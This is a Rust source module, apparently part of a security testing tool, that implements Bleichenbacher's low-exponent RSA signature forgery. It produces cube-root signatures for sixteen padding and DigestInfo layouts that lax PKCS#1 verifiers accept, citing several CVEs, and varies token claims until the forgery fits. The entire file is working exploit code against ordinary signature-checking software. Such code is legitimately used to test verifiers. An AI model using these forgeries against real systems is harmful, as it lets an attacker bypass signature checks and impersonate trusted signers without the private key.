//! Bleichenbacher's low-exponent forgery (2006): with exponent 3, an integer whose cube looks right to a lax parser needs no private
//! key.
//!
//! A layout fixes the first and the last bytes of the cube and leaves the middle to chance. The last bytes fix the root modulo a
//! power of two, the first bytes its size. A root modulo a power of two is unique for odd numbers and missing for most even ones, so
//! the claims are varied until the hash suits.

use ::rsa::BigUint;
use serde::{Deserialize, Serialize};

use super::{Public, algorithm_identifier, info, no_room, oid, pkcs1_algorithm};
use crate::{
    keys::der,
    step::{StepError, Work, signature, vary},
};

/// Where the bytes hide that the forger cannot choose; each layout is what one kind of lax parser overlooks.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, strum::VariantArray)]
#[serde(rename_all = "kebab-case")]
#[non_exhaustive]
pub enum CubeRoot {
    /// Behind the `DigestInfo`, after eight FF (CVE-2006-4339, CVE-2022-24772).
    TrailingGarbage,
    /// The same after one FF.
    TrailingOneFf,
    /// The same after no FF.
    TrailingNoFf,
    /// The same, the `DigestInfo` without its NULL.
    TrailingNoNull,
    /// The same, the `DigestInfo` with long-form lengths.
    TrailingLongForm,
    /// Inside the `DigestInfo`, as a third element that the lengths account for (CVE-2022-24771).
    ThirdElement,
    /// Inside the OCTET STRING, behind the hash.
    OctetTail,
    /// As the algorithm's parameters, an OCTET STRING in the place of NULL.
    ParametersOctets,
    /// As the content of the NULL.
    ParametersNull,
    /// Inside the algorithm, as a third element behind the NULL (CVE-2022-24771).
    AlgorithmElement,
    /// In the place of the FF, no zero byte among them (CVE-2016-1494).
    Padding,
    /// The same after eight FF.
    PaddingAfterFf,
    /// In front of a hash without `DigestInfo`, after eight FF.
    BeforeBareHash,
    /// In the place of the FF, then a zero byte and the hash without `DigestInfo`.
    PaddingBareHash,
    /// In the place of the FF, under block type 2.
    BlockTypeTwo,
    /// Everywhere in front of the `DigestInfo` and its zero byte.
    TailOnly,
}

/// First bytes, last bytes, and what may stand between them.
struct Plan {
    prefix: Vec<u8>,
    suffix: Vec<u8>,
    middle: Middle,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Middle {
    Anything,
    NoZero,
}

pub(in crate::step) fn cube_root(work: &mut Work<'_>, layout: CubeRoot) -> Result<(), StepError> {
    let key = Public::of(work)?;
    if key.e != BigUint::from(3_u8) {
        return Err(StepError::Unfit("the trusted key's public exponent is not 3".to_owned()));
    }
    let hash = pkcs1_algorithm(work)?.hash();
    let size = key.size();
    let root = vary::claims(work, 256, |work| {
        let digest = hash.digest(work.signing_input()?.as_bytes());
        let plan = layout.plan(oid(hash), &digest, size);
        if plan.is_hopeless(size) { Err(no_room()) } else { Ok(plan.solve(size)) }
    })?;
    signature::set(work, key.fixed(&root))
}

impl CubeRoot {
    fn plan(self, oid: &[u8], digest: &[u8], size: usize) -> Plan {
        let good = info(oid, digest);
        let start = |ff: usize| [&[0, 1], &*vec![0xff; ff], &[0]].concat();
        let zero_and = |tail: &[u8]| [&[0], tail].concat();
        let plan = |prefix: Vec<u8>, suffix: Vec<u8>, middle| Plan { prefix, suffix, middle };
        let trailing = |ff, info: &[u8]| plan([&start(ff), info].concat(), Vec::new(), Middle::Anything);
        match self {
            Self::TrailingGarbage => trailing(8, &good),
            Self::TrailingOneFf => trailing(1, &good),
            Self::TrailingNoFf => trailing(0, &good),
            Self::TrailingNoNull => {
                let algorithm = der::nest(der::SEQUENCE, &[der::oid(oid)]);
                trailing(8, &der::nest(der::SEQUENCE, &[algorithm, der::tlv(der::OCTET_STRING, digest)]))
            }
            Self::TrailingLongForm => trailing(8, &long_form(oid, digest)),
            Self::ThirdElement | Self::OctetTail | Self::ParametersOctets | Self::ParametersNull | Self::AlgorithmElement => {
                self.nested(oid, digest, size)
            }
            Self::Padding => plan(vec![0, 1], zero_and(&good), Middle::NoZero),
            Self::PaddingAfterFf => plan([&[0, 1], &[0xff; 8][..]].concat(), zero_and(&good), Middle::NoZero),
            Self::BeforeBareHash => plan(start(8), digest.to_vec(), Middle::Anything),
            Self::PaddingBareHash => plan(vec![0, 1], zero_and(digest), Middle::NoZero),
            Self::BlockTypeTwo => plan(vec![0, 2], zero_and(&good), Middle::NoZero),
            Self::TailOnly => plan(Vec::new(), zero_and(&good), Middle::Anything),
        }
    }

    /// The layouts in which every length is right and the garbage is an element, or part of one.
    fn nested(self, oid: &[u8], digest: &[u8], size: usize) -> Plan {
        let octets = der::tlv(der::OCTET_STRING, digest);
        let mut prefix = [&[0, 1], &[0xff; 8][..], &[0]].concat();
        open(&mut prefix, der::SEQUENCE, size, 0);
        let mut suffix = Vec::new();
        match self {
            Self::ThirdElement => {
                prefix.extend([algorithm_identifier(oid), octets].concat());
                open(&mut prefix, der::OCTET_STRING, size, 0);
            }
            Self::OctetTail => {
                prefix.extend(algorithm_identifier(oid));
                open(&mut prefix, der::OCTET_STRING, size, 0);
                prefix.extend_from_slice(digest);
            }
            _ => {
                open(&mut prefix, der::SEQUENCE, size, octets.len());
                prefix.extend(der::oid(oid));
                let tag = if self == Self::ParametersNull { der::NULL } else { der::OCTET_STRING };
                if self == Self::AlgorithmElement {
                    prefix.extend(der::tlv(der::NULL, &[]));
                }
                open(&mut prefix, tag, size, octets.len());
                suffix = octets;
            }
        }
        Plan { prefix, suffix, middle: Middle::Anything }
    }
}

/// Begins an element that ends `behind` bytes before the end of a block of `size`.
fn open(block: &mut Vec<u8>, tag: u8, size: usize, behind: usize) {
    let room = size.saturating_sub(block.len() + behind);
    let length = match u8::try_from(room.saturating_sub(3)) {
        Ok(short) => vec![0x81, short],
        Err(_) => der::length(room - 4),
    };
    block.push(tag);
    block.extend(length);
}

/// A `DigestInfo` in which each length takes one byte more than it needs.
fn long_form(oid: &[u8], digest: &[u8]) -> Vec<u8> {
    let long =
        |tag: u8, content: &[u8]| [&[tag, 0x81, u8::try_from(content.len()).expect("a DigestInfo is short")], content].concat();
    let algorithm = long(der::SEQUENCE, &[long(der::OID, oid), long(der::NULL, &[])].concat());
    long(der::SEQUENCE, &[algorithm, long(der::OCTET_STRING, digest)].concat())
}

impl Plan {
    /// The least cube that will do, and the least above it that has not the prefix.
    fn bounds(&self, size: usize) -> (BigUint, BigUint) {
        let room = size - self.prefix.len();
        let ceiling = (BigUint::from_bytes_be(&self.prefix) + 1_u8) << (8 * room);
        // From the prefix and zeros the search would take ages to leave those zeros behind.
        let least = u8::from(self.middle == Middle::NoZero);
        let floor = BigUint::from_bytes_be(&[&*self.prefix, &vec![least; room]].concat());
        (floor, ceiling)
    }

    /// Whether cubes with this suffix lie so far apart that hardly one has the prefix.
    fn is_hopeless(&self, size: usize) -> bool {
        if size <= self.prefix.len() + self.suffix.len() {
            return true;
        }
        let (floor, ceiling) = self.bounds(size);
        let root = floor.cbrt();
        let gap = (&root * &root * 3_u8) << (8 * self.suffix.len());
        gap.bits() > (ceiling - floor).bits() + 6
    }

    /// A number below the cube root of the modulus whose cube has this layout.
    fn solve(&self, size: usize) -> Option<BigUint> {
        let low_bits = 8 * self.suffix.len();
        let low = cube_root_modulo(&BigUint::from_bytes_be(&self.suffix), low_bits)?;
        let step = BigUint::from(1_u8) << low_bits;
        let (floor, ceiling) = self.bounds(size);
        let least = floor.cbrt() + 1_u8;
        let mut root = if least <= low { low } else { &low + (&least - &low + &step - 1_u8) / &step * &step };
        for _ in 0..64 {
            let cube = &root * &root * &root;
            if cube >= ceiling {
                return None;
            }
            if self.middle_is_right(&cube, size) {
                return Some(root);
            }
            root += &step;
        }
        None
    }

    fn middle_is_right(&self, cube: &BigUint, size: usize) -> bool {
        let bytes = cube.to_bytes_be();
        let block = [vec![0; size.saturating_sub(bytes.len())], bytes].concat();
        self.middle == Middle::Anything || !block[self.prefix.len()..size - self.suffix.len()].contains(&0)
    }
}

/// The number below 2^`bits` whose cube ends in the bits of an odd `number`; 0 for no bits, and `None` if the number is even.
fn cube_root_modulo(number: &BigUint, bits: usize) -> Option<BigUint> {
    let one = BigUint::from(1_u8);
    if bits == 0 {
        return Some(BigUint::from(0_u8));
    }
    if number % 2_u8 == BigUint::from(0_u8) {
        return None;
    }
    // Odd numbers modulo 2^bits have orders that divide 2^(bits - 2), and this is the inverse of 3 modulo that, bits being even.
    let third = ((&one << (bits - 1)) + &one) / 3_u8;
    Some(number.modpow(&third, &(one << bits)))
}
